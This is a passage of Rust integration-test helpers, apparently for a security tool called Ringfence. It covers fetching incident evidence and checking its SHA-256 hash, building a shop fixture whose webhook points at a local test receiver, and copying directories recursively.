        let file = self.rf.dir.path().join(format!("{id}-{name}"));
        let (code, out, err) = run(self
            .cmd()
            .args(["incident", "evidence", "get", id, &sha, "-o"])
            .arg(&file));
        assert_eq!(code, 0, "{out}{err}");
        let bytes = std::fs::read(&file).unwrap();
        assert_eq!(sha256_of(&bytes), sha);
        bytes
    }
}

/// The fixture registry, a receiver answering 200, and a shop whose webhook points at it.
fn shop_with_receiver(rf: Ringfence) -> (FixtureRegistry, Receiver, Shop) {
    let registry = registry();
    let receiver = Receiver::start_any(200);
    let shop = Shop::new(rf, &registry, receiver.port());
    (registry, receiver, shop)
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}
